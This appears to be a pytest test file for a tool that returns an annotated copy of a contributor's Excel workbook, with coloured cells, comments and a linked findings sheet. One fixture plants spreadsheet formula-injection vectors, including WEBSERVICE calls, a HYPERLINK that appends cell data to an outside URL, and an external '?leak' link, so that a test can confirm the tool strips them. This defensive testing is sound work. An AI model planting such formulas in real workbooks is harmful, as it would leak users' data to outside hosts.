"""The contributor's own workbook with what was found in it: marked cells, comments, and a list that leads to them."""

import io
import re
import zipfile

import openpyxl
import pytest
from openpyxl.comments import Comment
from openpyxl.formatting.rule import FormulaRule
from openpyxl.worksheet.datavalidation import DataValidation
from openpyxl.worksheet.formula import ArrayFormula

from atlas import LANGUAGES
from atlas.exports.contributions.annotated import annotated
from atlas.exports.contributions.asked import Finding
from atlas.exports.contributions.check import check
from atlas.exports.contributions.prefilled import prefilled
from atlas.exports.contributions.strangers import STRICT
from atlas.look.palette import FOUND, ink_on
from atlas.records.said import said
from atlas.words.translator import Translator

MESSAGE = said("One of the values of the column: {values}.", values="active, lapsed")
VALUE = "=WEBSERVICE(1)"
FINDINGS = [
    Finding("error", "of the file"),
    Finding("error", MESSAGE, "twinnings", 4, "status", "E4", VALUE),
    Finding("reading", "a date", "twinnings", 3, "signed_on", "C3", "4/5/2016", "2016-05-04"),
    Finding("twin", "a twin", "twinnings", 9),
    Finding("note", "of a sheet that is not there", "Sheet1", 3),
    Finding("note", "hidden", "places"),
    Finding("note", "another", "twinnings", 4, "status", "E4"),
]


@pytest.fixture(scope="module")
def given(atlas):
    """A workbook as it was given out."""
    return prefilled(atlas, Translator("vi"), units=["cn-532628"])


def changed(content, change):
    book = openpyxl.load_workbook(io.BytesIO(content))
    change(book)
    file = io.BytesIO()
    book.save(file)
    return file.getvalue()


def opened(content):
    return openpyxl.load_workbook(io.BytesIO(content))


def colour(cell):
    return f"#{cell.fill.fgColor.rgb[2:].lower()}" if cell.fill.fill_type else None


def values(sheet):
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def test_cells_are_marked_by_the_worst_that_was_found(given):
    sheet = opened(annotated(given, FINDINGS, Translator("en")))["twinnings"]
    assert [colour(sheet[place]) for place in ("E4", "C3", "A9", "E3")] == [
        FOUND["error"], FOUND["reading"], FOUND["twin"], None,
    ]  # fmt: skip
    assert f"{MESSAGE}" in sheet["E4"].comment.text
    assert "another" in sheet["E4"].comment.text
    assert "2016-05-04" in sheet["C3"].comment.text
    assert sheet.sheet_properties.tabColor.rgb == f"FF{FOUND['error'][1:].upper()}"


def test_colours_are_read_on():
    assert {ink_on(one) for one in FOUND.values()} == {"#000000"}
    assert len(set(FOUND.values())) == 4


def test_all_else_stays(given):
    before, after = opened(given), opened(annotated(given, FINDINGS, Translator("vi")))
    assert after.sheetnames[1:] == before.sheetnames
    for sheet in before:
        same = after[sheet.title]
        assert values(same)[: sheet.max_row] == values(sheet)
        assert same.sheet_state == sheet.sheet_state
        assert (same.freeze_panes, same.auto_filter.ref) == (sheet.freeze_panes, sheet.auto_filter.ref)
        assert same.protection.sheet == sheet.protection.sheet
        offers = [
            [(str(one.sqref), one.formula1) for one in each.data_validations.dataValidation] for each in (same, sheet)
        ]
        assert offers[0] == offers[1]
        assert {name: one.width for name, one in same.column_dimensions.items()} == {
            name: one.width for name, one in sheet.column_dimensions.items()
        }
        assert [cell.comment and cell.comment.text for cell in sheet[1]] == [
            cell.comment and cell.comment.text.split("\n◆")[0] for cell in same[1]
        ] or sheet.title.startswith("_")


def test_comments_of_others_stay_and_those_of_an_earlier_copy_go(given):
    def comment(book):
        book["twinnings"]["E4"].comment = Comment("hỏi lại xã", "An")

    first = annotated(changed(given, comment), FINDINGS, Translator("vi"))
    assert opened(first)["twinnings"]["E4"].comment.text.startswith("hỏi lại xã\n◆")
    second = opened(annotated(first, [], Translator("zh")))
    sheet = second["twinnings"]
    assert sheet["E4"].comment.text == "hỏi lại xã"
    assert sheet["C3"].comment is None
    assert {colour(sheet[place]) for place in ("E4", "C3")} == {None}
    assert second["places"]["A1"].comment.text == opened(given)["places"]["A1"].comment.text
    assert len(second.sheetnames) == len(opened(given).sheetnames) + 1


@pytest.mark.parametrize("language", LANGUAGES)
def test_a_first_sheet_lists_all_and_leads_to_the_cells(given, language):
    translate = Translator(language)
    book = opened(annotated(given, FINDINGS[::-1], translate))
    sheet = book.worksheets[0]
    assert book.active is sheet
    assert sheet.title.startswith("_")
    rows = values(sheet)[3:]
    assert [row[1:6] for row in rows] == [
        [one.sheet, one.row and str(one.row), one.column, one.value, translate.said(one.message)] for one in FINDINGS
    ]
    assert rows[2][6] == "2016-05-04"
    links = {cell.row: cell.hyperlink.location for cell in sheet["B"] if cell.hyperlink}
    assert links == {5: "twinnings!E4", 6: "twinnings!C3", 7: "twinnings!A9", 9: "places!A1", 10: "twinnings!E4"}
    assert not any(view.tabSelected for other in book.worksheets[1:] for view in other.views.sheetView)
    if language != "en":
        assert not {"To correct", "Sheet", "Remark"} & {cell for row in values(sheet) for cell in row}


def test_the_copy_is_read_as_the_file_was(given):
    def fill(book):
        sheet = book["twinnings"]
        sheet["C3"], sheet["E4"] = "4/5/2016", "activ"
        sheet["E4"].comment = Comment("hỏi lại xã", "An")
        for column, text in {"A": "twin-new", "B": "commune", "E": "active", "H": "high", "I": "nowhere"}.items():
            sheet[f"{column}8"] = text

    content = changed(given, fill)
    found = check(content, "a.xlsx")
    assert {one.kind for one in found.findings} >= {"error", "reading", "note"}
    copy = annotated(content, found.findings, Translator("zh"))
    assert check(copy, "a.xlsx").findings == found.findings
    sheet = opened(copy)["twinnings"]
    for one in found.findings:
        if one.cell and one.sheet == "twinnings":
            assert colour(sheet[one.cell]) in FOUND.values(), one
            assert Translator("zh").said(one.message) in sheet[one.cell].comment.text


def test_strict_workbooks_come_back_as_usual_ones(given):
    with zipfile.ZipFile(io.BytesIO(given)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    strict, file = parts, io.BytesIO()
    for wide, usual in STRICT:
        strict = {name: data.replace(usual, wide) for name, data in strict.items()}
    with zipfile.ZipFile(file, "w") as archive:
        for name, data in strict.items():
            archive.writestr(name, data)
    assert file.getvalue() != given
    book = opened(annotated(file.getvalue(), FINDINGS, Translator("en")))
    assert values(book["_values"]) == values(opened(given)["_values"])
    assert colour(book["twinnings"]["E4"]) == FOUND["error"]


def hostile(book):
    sheet = book["twinnings"]
    sheet["C3"] = '=HYPERLINK("http://example.org/"&A3,"x")'
    sheet["D3"] = ArrayFormula("D3:D4", "=WEBSERVICE(A3)")
    sheet["E3"].hyperlink = "http://example.org/?leak"
    sheet.conditional_formatting.add("A1:C9", FormulaRule(["WEBSERVICE(A1)=1"]))
    sheet.add_data_validation(DataValidation("custom", 'INDIRECT("x")=1', sqref="C3"))
    sheet.add_data_validation(DataValidation("list", "OFFSET(A1,1,1)", sqref="D3"))
    book.defined_names["evil"] = openpyxl.workbook.defined_name.DefinedName("evil", attr_text="WEBSERVICE(1)")


def test_nothing_is_worked_out_in_it(given):
    content = annotated(changed(given, hostile), [*FINDINGS, Finding("error", "=1+1", "twinnings", 3, "id", "A3", "@x")], Translator("en"))  # fmt: skip
    book = opened(content)
    assert book["twinnings"]["C3"].value == '=HYPERLINK("http://example.org/"&A3,"x")'
    assert {cell.data_type for sheet in book for row in sheet.iter_rows() for cell in row} <= {"s", "n", "inlineStr"}
    assert not book["twinnings"].conditional_formatting
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    everything = b"".join(parts.values())
    assert not re.search(rb"<([a-z]+:)?(f|formula1|definedName)[ >][^<]*(WEBSERVICE|INDIRECT|OFFSET)", everything)
    assert b'TargetMode="External"' not in everything
    known = ("xl/worksheets/", "xl/workbook", "xl/styles", "xl/sharedStrings", "xl/theme", "xl/comments", "xl/drawings/vml", "xl/_rels", "_rels", "[Content")  # fmt: skip
    assert all(name.startswith(known) for name in parts)


def test_texts_that_no_file_can_hold_are_shown_all_the_same(given):
    odd = Finding("error", "a\x00b\ud800 <&>\u202e", "twinnings", 3, "id", "A3", "\x0b")
    sheet = opened(annotated(given, [odd], Translator("en")))["twinnings"]
    assert "a�b� <&>" in sheet["A3"].comment.text


@pytest.mark.parametrize("lost", [None, "xl/worksheets/sheet5.xml", "xl/styles.xml", "xl/comments1.xml"])
def test_of_a_file_that_cannot_be_read_there_is_the_list(given, lost):
    file = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(given)) as archive, zipfile.ZipFile(file, "w") as damaged:
        for name in archive.namelist():
            damaged.writestr(name, archive.read(name)[: -9 if name == lost else None])
    book = opened(annotated(file.getvalue() if lost else b"no workbook", FINDINGS, Translator("vi")))
    assert len(book.sheetnames) == 1
    assert book.worksheets[0].max_row == 3 + len(FINDINGS)


def test_cells_need_not_say_where_they_stand(given):
    with zipfile.ZipFile(io.BytesIO(given)) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    bare = {
        name: re.sub(rb'<(row|c) r="[A-Z0-9]+"', rb"<\1", data) if b"<sheetData>" in data else data
        for name, data in parts.items()
    }
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, data in bare.items():
            archive.writestr(name, data)
    sheet = opened(annotated(file.getvalue(), FINDINGS, Translator("en")))["_values"]
    assert values(sheet) == values(opened(given)["_values"])
